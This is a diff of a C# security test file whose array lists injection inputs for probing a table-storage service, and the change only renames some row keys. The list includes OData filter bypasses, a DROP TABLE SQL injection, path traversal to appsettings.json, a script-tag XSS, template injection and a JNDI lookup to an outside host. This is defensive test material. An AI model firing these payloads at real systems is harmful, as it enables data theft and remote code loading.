@@ -38,9 +38,9 @@ public sealed class InjectionTests(AbuseFixture fixture, ITestOutputHelper outpu
     private static readonly string[] Meant =
     [
         "' or PartitionKey ne '", "') or true or ('", "' or 1 eq 1 or '", "x' or RowKey ne 'x", "{R}' or PartitionKey ne '{S}", "{S}' or '1' eq '1",
-        "PartitionKey eq '{S}'", "(PartitionKey='{S}',RowKey='record')", "{S}(PartitionKey='{S}',RowKey='contact')", "*", "%", "'", "''", "\"",
+        "PartitionKey eq '{S}'", "(PartitionKey='{S}',RowKey='record-{S}')", "{S}(PartitionKey='{S}',RowKey='contact-{S}')", "*", "%", "'", "''", "\"",
         "$filter=PartitionKey ne ''", "?$filter=true", "{S}&$select=*", "{S}?$filter=true", "{S};DROP TABLE submissions;--", "submissions()",
-        "Tables('submissions')", "{S}/contact", "{S}/../{R}", "../../appsettings.json", "..\\..\\appsettings.json", "{S}%00", "<script>alert(1)</script>",
+        "Tables('submissions')", "{S}/contact-{S}", "{S}/../{R}", "../../appsettings.json", "..\\..\\appsettings.json", "{S}%00", "<script>alert(1)</script>",
         "${jndi:ldap://x.example/a}", "{{7*7}}", "\u202E{S}", "{{S}}", "{S}\u0000", "{S}\u200B",
     ];
 
